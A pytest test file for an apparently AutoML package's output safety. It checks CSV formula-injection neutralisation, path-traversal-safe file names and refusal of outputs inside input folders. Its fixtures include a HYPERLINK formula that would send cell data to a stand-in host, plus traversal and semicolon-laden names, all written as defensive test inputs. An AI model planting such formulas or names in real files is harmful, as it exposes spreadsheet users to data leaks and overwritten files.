"""automl_clf/outputs.py: outputs outside the folders a command reads, names made from input
files that stay in their folder, CSV cells a spreadsheet will not run. The commands that use
them are tested in their own rooms (predict, visualize, audit, best and run --export)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import automl_clf
from automl_clf.errors import OutputError, SpecError
from automl_clf.outputs import check_outside, csv_writer, safe_cell, safe_stem


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20", "'+31 20"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcat", "'\tcat"),
        ("\rcat", "'\rcat"),
        ("cat", "cat"),
        ("/data/cat=1.png", "/data/cat=1.png"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


def test_the_csv_writer_neutralises_every_text_cell_and_leaves_numbers() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(['=HYPERLINK("http://x"&A1,"click")', -1, 0.5, "ok"])
    writer.writerows([["@me", "-x"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [
        ['\'=HYPERLINK("http://x"&A1,"click")', "-1", "0.5", "ok"],
        ["'@me", "'-x"],
    ]


@pytest.mark.parametrize(
    ("image", "stem"),
    [("...png", "__"), ("../..png", "_"), ("a b;c.png", "a_b_c"), (".png", "_png")],
)
def test_a_name_made_from_an_input_file_stays_in_its_folder(
    image: str, stem: str, tmp_path: Path
) -> None:
    assert safe_stem(Path(image)) == stem
    assert (tmp_path / safe_stem(Path(image))).resolve().parent == tmp_path.resolve()


def test_an_output_inside_a_folder_read_is_refused_links_included(tmp_path: Path) -> None:
    export, data = tmp_path / "export", tmp_path / "data"
    export.mkdir()
    data.mkdir()
    (tmp_path / "link").symlink_to(export, target_is_directory=True)
    for path, role in (
        (export, "export"),
        (export / "report" / "x.csv", "export"),
        (tmp_path / "link" / "x.csv", "export"),
        (data / "exported", "data"),
    ):
        with pytest.raises(OutputError, match=f"--out {path} is inside the {role} folder"):
            check_outside(path, "--out", export=export, data=data, example="--out elsewhere")
    check_outside(tmp_path / "elsewhere", "--out", export=export, data=data, example="x")
    assert issubclass(OutputError, SpecError)  # exit 2, and caught where a SpecError is


def test_every_csv_autoclf_writes_goes_through_the_safe_writer() -> None:
    """A new CSV writer elsewhere would skip the neutralisation: there is one, here."""
    package = Path(automl_clf.__file__).parent
    writers = [
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["outputs.py"]
